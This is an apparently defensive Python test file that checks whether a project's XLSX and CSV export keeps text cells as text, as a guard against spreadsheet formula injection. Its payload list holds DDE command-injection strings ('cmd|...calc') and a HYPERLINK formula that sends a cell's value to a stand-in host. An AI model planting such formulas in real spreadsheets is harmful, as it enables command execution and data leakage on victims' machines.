"""Exported sheets in which every text stays a text (security S15, M5)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import tracemalloc
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from fenglian.documents.readers import read_sheet
from fenglian.documents.sheets import Column, ColumnKind, clean_text, stream_csv, write_sheet

if TYPE_CHECKING:
    from collections.abc import Iterable, Sequence

STARTS = [
    *["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u3000=", "\u00a0=", "\x00=", "\ufeff="],
    *["＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "\u2212", "|", "'=", "\x1b=", "\t", "\r\n="],
]
PAYLOADS = [
    *[f"{start}1+1" for start in STARTS],
    *[f"{start}cmd|'/c calc'!A0" for start in STARTS],
    '=HYPERLINK("http://x.invalid?"&A1,"看")',
    "{=1+1}",
    "#N/A",
    "#REF!",
    "'",
    "TRUE",
    "1E5",
    "440111199001011234",
    "00123",
    "13800138000",
]
TEXT = [Column("内容")]


def xlsx(columns: Sequence[Column], rows: Iterable[Sequence[Any]]) -> io.BytesIO:
    stream = io.BytesIO()
    write_sheet(stream, columns, rows)
    stream.seek(0)
    return stream


def reopened(stream: io.BytesIO) -> Any:
    return load_workbook(stream).active


def csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sheet_text_cell_reopened_is_that_text_and_no_formula(payload: str) -> None:
    sheet = reopened(xlsx(TEXT, [[payload]]))

    cell = sheet["A2"]

    assert (cell.data_type, cell.number_format) == ("s", "@")
    assert cell.value == clean_text(payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_sheet_header_reopened_is_text_and_no_formula(payload: str) -> None:
    sheet = reopened(xlsx([Column(payload)], []))

    assert sheet["A1"].data_type == "s"


@pytest.mark.parametrize("start", STARTS)
def test_csv_dangerous_start_is_guarded_by_an_apostrophe(start: str) -> None:
    (_, (cell,)) = csv_cells(b"".join(stream_csv(TEXT, [[f"{start}1+1"]])))

    assert cell == f"'{clean_text(f'{start}1+1')}"


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("440111199001011234", "'440111199001011234"),
        ("00123", "'00123"),
        ("13800138000", "13800138000"),
        ("（2026）粤0115民初1234号", "（2026）粤0115民初1234号"),
        ("正常的话，带“引号”和,逗号\n换行", "正常的话，带“引号”和,逗号\n换行"),
    ],
)
def test_csv_numbers_that_name_something_keep_their_digits(text: str, written: str) -> None:
    assert csv_cells(b"".join(stream_csv(TEXT, [[text]])))[1] == [written]


@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=40))
def test_csv_and_xlsx_written_and_read_again_give_the_same_text(text: str) -> None:
    expected = clean_text(text).strip().strip("\u3000\ufeff") or None
    rows = [[text, "有"]]
    columns = [Column("内容"), Column("在")]
    headers = {"columns": ["内容", "在"], "required": ["在"]}

    (from_xlsx,) = read_sheet(xlsx(columns, rows), name="a.xlsx", **headers)
    (from_csv,) = read_sheet(
        io.BytesIO(b"".join(stream_csv(columns, rows))), name="a.csv", **headers
    )

    assert from_xlsx.cells["内容"] == expected
    assert from_csv.cells["内容"] == expected


def test_sheet_kinds_are_numbers_dates_and_the_courts_time() -> None:
    columns = [
        Column("数", ColumnKind.NUMBER),
        Column("日", ColumnKind.DATE),
        Column("时", ColumnKind.DATETIME),
        Column("电话"),
    ]
    moment = dt.datetime(2026, 11, 20, 16, 30, tzinfo=dt.UTC)
    row = [3, dt.date(2026, 11, 20), moment, 13800138000]

    sheet = reopened(xlsx(columns, [row, [None, None, None, None]]))

    assert [cell.value for cell in sheet[2]] == [
        3,
        dt.datetime(2026, 11, 20),  # noqa: DTZ001 - a sheet knows no zones
        dt.datetime(2026, 11, 21, 0, 30),  # noqa: DTZ001 - as above
        "13800138000",
    ]
    assert sheet.freeze_panes == "A2"
    assert csv_cells(b"".join(stream_csv(columns, [row])))[1] == [
        "3",
        "2026-11-20",
        "2026-11-21 00:30",
        "13800138000",
    ]


@pytest.mark.parametrize("value", [float("nan"), float("inf"), "=1", True])
def test_sheet_number_column_with_something_else_holds_text(value: object) -> None:
    sheet = reopened(xlsx([Column("数", ColumnKind.NUMBER)], [[value]]))

    assert sheet["A2"].data_type == "s"


def test_sheet_memory_does_not_grow_with_the_rows() -> None:
    peaks = []
    for count in (200, 2000):
        tracemalloc.start()
        write_sheet(io.BytesIO(), TEXT * 5, (["群众的话" * 10] * 5 for _ in range(count)))
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()

    assert peaks[1] < 1.5 * peaks[0]


def test_csv_of_many_rows_comes_in_blocks() -> None:
    blocks = list(stream_csv(TEXT, (["群众的话" * 20] for _ in range(5000))))

    assert len(blocks) > 5
    assert len(csv_cells(b"".join(blocks))) == 5001
